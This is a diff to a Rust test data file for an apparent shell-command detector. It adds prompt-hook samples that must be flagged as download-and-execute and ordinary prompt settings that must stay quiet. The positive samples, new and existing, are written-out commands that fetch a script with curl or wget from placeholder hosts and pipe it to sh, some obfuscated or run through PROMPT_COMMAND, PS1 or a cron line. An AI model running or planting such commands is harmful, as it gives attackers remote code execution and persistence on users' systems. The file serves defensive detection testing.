@@ -21,6 +21,10 @@ const POSITIVE: &[(&str, &[K])] = &[
     ("echo 'curl -s http://x/a | sh' | bash", &[K::DownloadExecute]),
     ("$'\\x63\\x75\\x72\\x6c' -s http://x/a | sh", &[K::DownloadExecute]),
     ("busybox wget -O- http://x/a | busybox sh", &[K::DownloadExecute]),
+    // Code run at every prompt, set in a start-up file.
+    ("export PROMPT_COMMAND=\"history -a; curl -s http://203.0.113.9/k | sh\"", &[K::DownloadExecute]),
+    ("PROMPT_COMMAND='wget -q -O- http://x/a|bash'", &[K::DownloadExecute]),
+    ("PS1='$(curl -s http://x/a|sh)\\u@\\h$ '", &[K::DownloadExecute]),
     // Kinsing's and 8220 Gang's cron line: a subshell's output piped to sh.
     ("(curl -fsSL http://203.0.113.66/cr.sh||wget -q -O- http://203.0.113.66/cr.sh)|sh", &[K::DownloadExecute]),
     ("(curl -fsSL http://x/ldr.sh || wget -q -O- http://x/ldr.sh) | sudo bash", &[K::DownloadExecute]),
@@ -154,6 +158,10 @@ const POSITIVE: &[(&str, &[K])] = &[
 
 /// Everyday administration that must stay quiet.
 const NEGATIVE: &[&str] = &[
+    "export PROMPT_COMMAND='history -a'",
+    "PROMPT_COMMAND='printf \"\\033]0;%s@%s\\007\" \"${USER}\" \"${HOSTNAME%%.*}\"'",
+    "PS1='\\u@\\h:\\w\\$ '",
+    "PS1='[$(date +%H:%M)] \\u@\\h \\W\\$ '",
     "(cd /srv/app && make -j2) | tee build.log",
     "(umask 077; cat /etc/hosts) | less",
     "(curl -fsSL https://example.org/a.tar.gz) > a.tar.gz",
